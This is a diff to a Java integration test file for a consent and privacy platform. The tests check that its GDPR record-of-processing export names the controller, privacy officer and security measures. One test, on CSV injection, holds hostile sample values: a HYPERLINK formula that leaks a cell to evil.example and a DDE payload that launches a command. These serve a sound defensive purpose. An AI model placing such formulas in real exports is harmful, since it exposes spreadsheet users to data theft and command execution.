@@ -16,12 +16,14 @@ import java.time.Duration;
 import java.time.OffsetDateTime;
 import java.util.HexFormat;
 import java.util.List;
+import java.util.Map;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.steward.it.support.Fixtures;
 import org.steward.it.support.Http;
 import org.steward.it.support.StewardServer;
 import org.steward.it.support.Tables;
+import org.steward.platform.kernel.api.Csv;
 
 /** The consent module end to end over HTTP: purposes, notices, receipts, GPC, devices, ROPA, import, unsubscribe. */
 class ConsentIT {
@@ -265,7 +267,8 @@ class ConsentIT {
         assertThat(drip.getString("legalBasis")).isEqualTo("LEGITIMATE_INTEREST");
         assertThat(drip.getJsonArray("dataCategories").toString()).contains("Welcome-email activity");
         assertThat(drip.getJsonArray("dataSubjects").toString()).contains("App users");
-        assertThat(drip.getString("recipients")).isEqualTo("not yet recorded");
+        assertThat(drip.getString("recipients")).startsWith("not yet recorded").contains("sharing module");
+        assertThat(drip.getString("transfers")).startsWith("not yet recorded").contains("sharing module");
         // Retention comes from the retention module's policy for each of the purpose's categories.
         assertThat(drip.getString("retention")).contains("welcome-email: erased 30 days after the purpose is fulfilled");
         Http.Response csv = raw(HTTP, "GET", "/api/v1/inventory/ropa", null, null, "Accept", "text/csv");
@@ -276,6 +279,96 @@ class ConsentIT {
         // Descriptions with commas are quoted (RFC 4180).
         assertThat(csv.body()).contains("\"To create user accounts, process billing, manage accounts,");
         problem(SERVER.as(null, "SUPPORT_AGENT").get("/api/v1/inventory/ropa"), 403, "forbidden");
+    }
+
+    /** A CSV row by its header's names. */
+    static Map<String, String> cells(Csv.Row header, Csv.Row row) {
+        Map<String, String> m = new java.util.LinkedHashMap<>();
+        for (int i = 0; i < header.fields().size(); i++) {
+            m.put(header.fields().get(i), i < row.fields().size() ? row.fields().get(i) : null);
+        }
+        return m;
+    }
+
+    /** Art. 30(1)(a) and (g), on a server where the operator configured none of it: the record says so. */
+    @Test
+    void ropaNamesTheControllerThePrivacyOfficerAndTheSecurityMeasuresAndSaysWhatIsNotConfigured() throws Exception {
+        JsonObject ropa = HTTP.get("/api/v1/inventory/ropa").json();
+        JsonObject controller = ropa.getJsonObject("controller");
+        assertThat(controller.getString("name")).isEqualTo("Open Source Consulting Inc.");
+        assertThat(controller.getString("contact")).isEqualTo("https://cloud-osci.atlassian.net/helpcenter/app/");
+        assertThat(controller.getString("address")).isEqualTo("not configured");
+        assertThat(ropa.getJsonObject("privacyOfficer").getString("name")).isEqualTo("not configured");
+        assertThat(ropa.getJsonObject("privacyOfficer").getString("contact")).isEqualTo("not configured");
+        JsonObject measures = ropa.getJsonObject("securityMeasures");
+        String technical = measures.getJsonArray("technical").toString();
+        assertThat(technical).contains("envelope encryption", "blind indexes", "Role-based access control",
+                "hash chain", "Ed25519", "served over plain HTTP");
+        assertThat(measures.getString("organisational")).isEqualTo("not configured");
+        assertThat(ropa.getString("recipientsAndTransfers")).contains("sharing module");
+
+        Http.Response csv = raw(HTTP, "GET", "/api/v1/inventory/ropa", null, null, "Accept", "text/csv");
+        List<Csv.Row> rows = Csv.parse(csv.body());
+        assertThat(rows.get(0).fields()).endsWith("controller_name", "controller_address", "controller_contact",
+                "privacy_officer_name", "privacy_officer_contact", "technical_measures", "organisational_measures");
+        Map<String, String> drip = cells(rows.get(0), rows.stream()
+                .filter(r -> r.fields().get(0).equals("drip-emails")).findFirst().orElseThrow());
+        assertThat(drip).containsEntry("controller_name", "Open Source Consulting Inc.")
+                .containsEntry("controller_address", "not configured")
+                .containsEntry("privacy_officer_name", "not configured")
+                .containsEntry("privacy_officer_contact", "not configured")
+                .containsEntry("organisational_measures", "not configured");
+        assertThat(drip.get("technical_measures")).contains("envelope encryption", "Role-based access control");
+        assertThat(drip.get("recipients")).contains("sharing module");
+    }
+
+    /** The configured head (the sweeping server sets it) is in the JSON and on every CSV row. */
+    @Test
+    void ropaCarriesTheConfiguredControllerAndPrivacyOfficerInJsonAndCsv() throws Exception {
+        StewardServer configured = StewardServer.sweeping();
+        JsonObject ropa = configured.http().get("/api/v1/inventory/ropa").json();
+        assertThat(ropa.getJsonObject("controller").getString("address"))
+                .isEqualTo(StewardServer.ROPA_CONTROLLER_ADDRESS);
+        assertThat(ropa.getJsonObject("privacyOfficer").getString("name")).isEqualTo("Min-jun Park");
+        assertThat(ropa.getJsonObject("privacyOfficer").getString("contact")).isEqualTo("privacy@osci.example");
+        assertThat(ropa.getJsonObject("securityMeasures").getString("organisational"))
+                .isEqualTo("Access rights reviewed every quarter");
+        HttpRequest.Builder b = HttpRequest.newBuilder(configured.uri("/api/v1/inventory/ropa"))
+                .header("Accept", "text/csv");
+        configured.http().authenticate(b);
+        String body = HttpClient.newHttpClient().send(b.build(), HttpResponse.BodyHandlers.ofString()).body();
+        List<Csv.Row> rows = Csv.parse(body);
+        assertThat(rows).hasSizeGreaterThan(1);
+        for (Csv.Row row : rows.subList(1, rows.size())) {
+            Map<String, String> cells = cells(rows.get(0), row);
+            assertThat(cells).containsEntry("controller_address", StewardServer.ROPA_CONTROLLER_ADDRESS)
+                    .containsEntry("privacy_officer_name", "Min-jun Park")
+                    .containsEntry("privacy_officer_contact", "privacy@osci.example")
+                    .containsEntry("organisational_measures", "Access rights reviewed every quarter");
+        }
+    }
+
+    /** A value that a spreadsheet would run as a formula is exported as text (OWASP CSV injection). */
+    @Test
+    void ropaCsvCellsThatStartLikeAFormulaAreWrittenAsText() throws Exception {
+        String u = Fixtures.unique();
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click " + u + "\")";
+        Http.Response p = HTTP.post("/api/v1/consent/purposes", Json.createObjectBuilder().add("key", "f-" + u)
+                .add("name", formula).add("description", "@SUM(1+1)*cmd|' /C calc'!A0").add("legalBasis", "CONTRACT")
+                .add("categories", Json.createArrayBuilder().add("contact")).build().toString());
+        assertThat(p.status()).as(p.toString()).isEqualTo(201);
+        Http.Response csv = raw(HTTP, "GET", "/api/v1/inventory/ropa", null, null, "Accept", "text/csv");
+        List<Csv.Row> rows = Csv.parse(csv.body());
+        Map<String, String> row = cells(rows.get(0), rows.stream()
+                .filter(r -> r.fields().get(0).equals("f-" + u)).findFirst().orElseThrow());
+        assertThat(row).containsEntry("purpose", "'" + formula)
+                .containsEntry("description", "'@SUM(1+1)*cmd|' /C calc'!A0");
+        // No cell of the export starts like a formula.
+        for (Csv.Row r : rows) {
+            assertThat(r.fields()).noneMatch(f -> !f.isEmpty() && "=+-@\t\r".indexOf(f.charAt(0)) >= 0);
+        }
+        // The JSON keeps the value as it was given.
+        assertThat(HTTP.get("/api/v1/inventory/ropa").body()).contains("\"purpose\":\"=HYPERLINK(");
     }
 
     @Test
